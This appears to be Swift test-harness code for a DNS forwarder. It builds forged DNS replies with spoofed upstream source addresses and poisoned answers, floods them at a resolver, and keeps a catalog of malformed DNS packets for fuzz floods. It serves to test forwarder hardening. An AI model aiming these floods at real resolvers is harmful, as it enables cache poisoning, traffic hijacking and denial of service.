import DNSWire

/// The off-path attacker of issue 9: forged DNS replies for the names a
/// resolver is asking, each with the real upstream's source address and port,
/// the right question, a random ID, a guessed destination port and a poisoned
/// answer. A forwarder with random IDs and ports, and checks on the reply's
/// source, ID and question, must let none through.
///
/// ```swift
/// let flood = try Spoofer.flood(upstream: try Endpoint(ip: "10.0.0.53", port: 53), resolver: "10.0.0.1",
///                               names: names, poison: "6.6.6.6", rate: 50_000, count: 100_000,
///                               socketFactory: attackerFactory)
/// try flood.start(); flood.wait(timeout: 60); flood.sent
/// ```
public enum Spoofer {
    /// The forged replies, one per name (ID 0: the flood randomises it).
    public static func forgedReplies(names: [String], type: String = "A", poison: String, ttl: UInt32 = 86400) throws -> [[UInt8]] {
        guard !names.isEmpty else { throw ActorError("spoofer: no names") }
        guard let qtype = RRType(name: type.uppercased()) else { throw ActorError("spoofer: unknown type \"\(type)\"") }
        let rdata: RData
        switch qtype {
        case .a:
            guard let a = IPv4Address(poison) else { throw ActorError("spoofer: poison \"\(poison)\" is not an IPv4 address") }
            rdata = .a(a)
        case .aaaa:
            guard let a = IPv6Address(poison) else { throw ActorError("spoofer: poison \"\(poison)\" is not an IPv6 address") }
            rdata = .aaaa(a)
        default:
            throw ActorError("spoofer: type \(type): only A and AAAA answers are forged")
        }
        return try names.map { n in
            let name: DNSName
            do { name = try DNSName(n) } catch { throw ActorError("spoofer: bad name \"\(n)\": \(error)") }
            var m = Message()
            m.header.isResponse = true
            m.header.recursionDesired = true
            m.header.recursionAvailable = true
            m.questions = [Question(name: name, type: qtype, klass: 1)]
            m.answers = [ResourceRecord(name: name, type: qtype, klass: 1, ttl: ttl, rdata: rdata)]
            return m.encode()
        }
    }

    /// A flood of forged replies from `upstream` (forged with IP_TRANSPARENT,
    /// so the attacker's host need not have that address) to `resolver` on
    /// ports drawn from `ports`. Call `start()` on it.
    public static func flood(upstream: Endpoint, resolver: String, ports: ClosedRange<UInt16> = 1024...65535,
                             names: [String], type: String = "A", poison: String, rate: Double, count: Int,
                             socketFactory: SocketFactory = loopbackSocketFactory) throws -> PacketFlood {
        let target = try Endpoint(ip: resolver, port: ports.lowerBound)
        return try PacketFlood(target: target, ports: ports,
                               payloads: try forgedReplies(names: names, type: type, poison: poison),
                               randomizeID: true, rate: rate, count: count, source: upstream, transparent: true,
                               socketFactory: socketFactory)
    }
}

/// Packets no DNS server should choke on, for the soak's "malformed packets
/// mixed in". Each is a DNS-looking datagram broken in one way.
public enum MalformedPackets {
    public static let catalog: [(name: String, bytes: [UInt8])] = {
        let header: [UInt8] = [0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00]
        let question: [UInt8] = [3] + Array("hat".utf8) + [3] + Array("com".utf8) + [0, 0, 1, 0, 1]
        var list: [(String, [UInt8])] = []
        list.append(("empty", []))
        list.append(("one byte", [0x12]))
        list.append(("header cut short", Array(header.prefix(11))))
        list.append(("question count 1, no question", header))
        list.append(("question name cut short", header + [3] + Array("ha".utf8)))
        list.append(("no QTYPE/QCLASS", header + Array(question.dropLast(4))))
        list.append(("compression pointer loop", header + [0xC0, 0x0C, 0, 1, 0, 1]))
        list.append(("pointer past the end", header + [0xC0, 0xFF, 0, 1, 0, 1]))
        list.append(("label type 0x40", header + [0x41, 0x61, 0, 0, 1, 0, 1]))
        list.append(("name longer than 255", header + Array(repeating: [63] + Array(repeating: UInt8(0x61), count: 63), count: 5).flatMap { $0 } + [0, 0, 1, 0, 1]))
        list.append(("counts far beyond the data", [0x12, 0x34, 0x01, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff] + question))
        list.append(("a response, not a query", [0x12, 0x34, 0x81, 0x80] + Array(header[4...]) + question))
        list.append(("opcode UPDATE", [0x12, 0x34, 0x28, 0x00] + Array(header[4...]) + question))
        list.append(("OPT with a bad length", header.prefix(10) + [0x00, 0x01] + question + [0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0, 0xff, 0xff]))
        list.append(("trailing garbage", header + question + Array(repeating: 0xAB, count: 40)))
        var lcg: UInt32 = 0x2545F491
        list.append(("512 pseudo-random bytes", (0..<512).map { _ in lcg = lcg &* 1_664_525 &+ 1_013_904_223; return UInt8(lcg >> 24) }))
        return list
    }()

    /// A flood of the catalog's packets at a DNS server. Call `start()` on it.
    public static func flood(target: Endpoint, rate: Double, count: Int,
                             socketFactory: SocketFactory = loopbackSocketFactory) throws -> PacketFlood {
        try PacketFlood(target: target, payloads: catalog.map { $0.bytes }, rate: rate, count: count,
                        socketFactory: socketFactory)
    }
}
